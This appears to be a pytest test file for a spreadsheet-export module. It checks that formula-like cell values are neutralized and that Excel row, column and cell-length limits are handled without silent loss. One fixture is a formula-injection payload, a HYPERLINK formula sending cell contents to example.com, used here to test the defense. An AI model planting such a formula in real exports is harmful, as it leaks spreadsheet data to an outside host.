"""Exports for spreadsheets: no formula reaches a cell, no row is lost to a sheet's limit."""

import csv
import zipfile

import openpyxl
import pandas as pd
import pytest

from helpers.indicators.indicator_tables import write_indicator_exports
from helpers.spreadsheet import neutralize_cell, neutralize_frame, split_rows, write_csv, write_xlsx

# The title: reached indicators.csv unchanged, and ran as a link in Excel
INJECTED_TITLE = '=HYPERLINK("http://example.com/?d="&A1,"click")'


@pytest.mark.parametrize("value, expected", [
    (INJECTED_TITLE, "'" + INJECTED_TITLE),  # the title
    ("+86 024-22802600", "'+86 024-22802600"),  # a phone number Excel would compute as a formula
    ("-2+3", "'-2+3"),  # arithmetic, not a number
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),  # Lotus-style formula
    ("\t=1+1", "'\t=1+1"),  # a tab before the formula
    ("\r=1+1", "'\r=1+1"),  # a carriage return before it
    ("-3.5", "-3.5"),  # a plain negative number stays a number
    ("+2%", "+2%"),  # a plain percentage too
    ("同比增长4.5%左右", "同比增长4.5%左右"),  # Chinese text is untouched
    ("a=b", "a=b"),  # '=' inside a cell starts nothing
    (None, None),
    (3.5, 3.5),  # numbers are numbers
])
def test_neutralize_cell(value, expected):
    assert neutralize_cell(value) == expected


def test_an_injected_title_reaches_indicators_csv_neutralized_and_the_xlsx_as_text(tmp_path):
    records = pd.DataFrame({"doc_id": ["000_c314c07c1d40f028"], "title": [INJECTED_TITLE],
                            "quote": ["-3.5%"], "value": [-0.035], "sentence": ["=1+2,同比下降3.5%。"]})
    csv_path, xlsx_path = write_indicator_exports(records, tmp_path)
    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["title"] == "'" + INJECTED_TITLE
    assert rows[0]["sentence"] == "'=1+2,同比下降3.5%。"  # the comma stays inside the quoted cell
    assert rows[0]["quote"] == "-3.5%" and rows[0]["value"] == "-0.035"
    sheet = openpyxl.load_workbook(xlsx_path)["indicators"]
    assert sheet["B2"].value == INJECTED_TITLE and sheet["B2"].data_type == "s"  # text, not a formula
    assert sorted(p.name for p in tmp_path.iterdir()) == ["indicators.csv", "indicators.xlsx"]


def test_a_table_longer_than_a_sheet_continues_on_the_next_sheet_with_a_warning(tmp_path, caplog):
    table = pd.DataFrame({"n": range(7), "text": [f"第{i}行" for i in range(7)]})
    write_xlsx(table, tmp_path / "x.xlsx", "indicators", max_rows=3)  # 2 data rows a sheet
    book = openpyxl.load_workbook(tmp_path / "x.xlsx")
    assert book.sheetnames == ["indicators", "indicators (2)", "indicators (3)", "indicators (4)"]
    rows = [row for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert rows == list(table.itertuples(index=False, name=None))  # every row, in order
    assert all(next(sheet.iter_rows(values_only=True)) == ("n", "text") for sheet in book)
    assert "7 rows do not fit one Excel sheet" in caplog.text


def test_a_cell_longer_than_excel_allows_is_cut_with_a_mark_and_a_warning(tmp_path, caplog):
    long = "项目建设推进有力。" * 4000  # 36,000 characters: xlsxwriter cut such a cell without a word
    write_xlsx(pd.DataFrame({"sentence": [long]}), tmp_path / "x.xlsx", "s")
    cell = openpyxl.load_workbook(tmp_path / "x.xlsx")["s"]["A2"].value
    assert len(cell) == 32_767 and cell.endswith("the CSV has the whole text]")
    assert "cut with a mark" in caplog.text
    write_csv(pd.DataFrame({"sentence": [long]}), tmp_path / "x.csv")
    assert pd.read_csv(tmp_path / "x.csv", encoding="utf-8-sig")["sentence"][0] == long


def test_a_table_wider_than_a_sheet_is_refused(tmp_path):
    with pytest.raises(ValueError, match="16385 columns do not fit an Excel sheet"):
        write_xlsx(pd.DataFrame([range(16_385)]), tmp_path / "x.xlsx", "wide")
    assert list(tmp_path.iterdir()) == []


def test_split_rows_keeps_every_row():
    assert split_rows(1_048_576) == [(0, 1_048_575), (1_048_575, 1_048_576)]  # one past a sheet's data rows


@pytest.mark.slow
def test_an_export_past_the_real_row_limit_keeps_the_last_row(tmp_path):
    # The issue: an export over 1,048,576 rows lost the rest without a word.
    n = 1_048_577
    write_xlsx(pd.DataFrame({"n": range(n)}), tmp_path / "big.xlsx", "indicators")
    with zipfile.ZipFile(tmp_path / "big.xlsx") as book:
        names = sorted(name for name in book.namelist() if name.startswith("xl/worksheets/sheet"))
        assert names == ["xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"]
        second = book.read("xl/worksheets/sheet2.xml").decode()
    assert '<dimension ref="A1:A3"/>' in second and f"<v>{n - 1}</v>" in second


def test_categorical_text_is_neutralized_like_any_text():
    # the panels keep codes such as hardness and status as categories; a category is text in a CSV too
    frame = pd.DataFrame({"kind": pd.Categorical(["=x", "soft"]), "gap": [-3.0, 0.5]})
    out = neutralize_frame(frame)
    assert out["kind"].tolist() == ["'=x", "soft"] and out["gap"].tolist() == [-3.0, 0.5]
